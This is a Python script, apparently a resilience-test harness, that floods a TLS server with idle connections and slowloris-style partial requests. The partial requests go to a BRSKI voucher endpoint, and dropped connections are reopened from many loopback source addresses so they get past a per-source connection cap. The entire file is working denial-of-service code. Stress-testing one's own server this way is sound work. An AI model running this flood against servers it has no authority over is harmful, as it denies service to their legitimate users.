#!/usr/bin/env python3
"""Holds idle and slow connections open against a TLS server, as an attacker on the LAN would.

Usage: flood.py HOST PORT --idle N --slow N --status FILE [--sources PREFIX]

--idle N    TCP connections that never send a byte
--slow N    TLS connections that send a partial request line and then one byte every few
            seconds (slowloris)
Connections the server closes are opened again, so the load holds for as long as this runs.
They come from PREFIX.1 to PREFIX.50 (default 127.0.9), loopback addresses other than the
pledges' 127.0.0.1, so that the server's per-source cap is not what keeps them out.
Every half second FILE gets one line: "idle OPEN slow OPEN reopened N".
"""

import argparse
import asyncio
import resource
import ssl

SOURCES = 50
TRICKLE_SECONDS = 5


class Flood:
    def __init__(self, args):
        self.args = args
        self.idle_open = 0
        self.slow_open = 0
        self.reopened = 0
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.tls.check_hostname = False
        self.tls.verify_mode = ssl.CERT_NONE

    def source(self, index):
        return (f"{self.args.sources}.{index % SOURCES + 1}", 0)

    async def idle(self, index):
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    self.args.host, self.args.port, local_addr=self.source(index))
            except OSError:
                await asyncio.sleep(0.2)
                continue
            self.idle_open += 1
            try:
                await reader.read(1)  # returns when the server closes it
            except OSError:
                pass
            self.idle_open -= 1
            self.reopened += 1
            writer.close()

    async def slow(self, index):
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    self.args.host, self.args.port, ssl=self.tls, server_hostname="flood",
                    local_addr=self.source(index))
                writer.write(b"POST /.well-known/brski/requestvoucher")
                await writer.drain()
            except (OSError, ssl.SSLError):
                await asyncio.sleep(0.2)
                continue
            self.slow_open += 1
            try:
                while True:
                    try:
                        await asyncio.wait_for(reader.read(4096), TRICKLE_SECONDS)
                        break  # the server answered or closed: open another
                    except asyncio.TimeoutError:
                        writer.write(b"x")
                        await writer.drain()
            except (OSError, ssl.SSLError):
                pass
            self.slow_open -= 1
            self.reopened += 1
            writer.close()

    async def report(self):
        while True:
            with open(self.args.status, "w") as status:
                status.write(f"idle {self.idle_open} slow {self.slow_open} "
                             f"reopened {self.reopened}\n")
            await asyncio.sleep(0.5)

    async def run(self):
        tasks = [asyncio.create_task(self.report())]
        tasks += [asyncio.create_task(self.idle(i)) for i in range(self.args.idle)]
        tasks += [asyncio.create_task(self.slow(i)) for i in range(self.args.slow)]
        await asyncio.gather(*tasks)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--idle", type=int, default=0)
    parser.add_argument("--slow", type=int, default=0)
    parser.add_argument("--status", required=True)
    parser.add_argument("--sources", default="127.0.9")
    args = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(Flood(args).run())


if __name__ == "__main__":
    main()
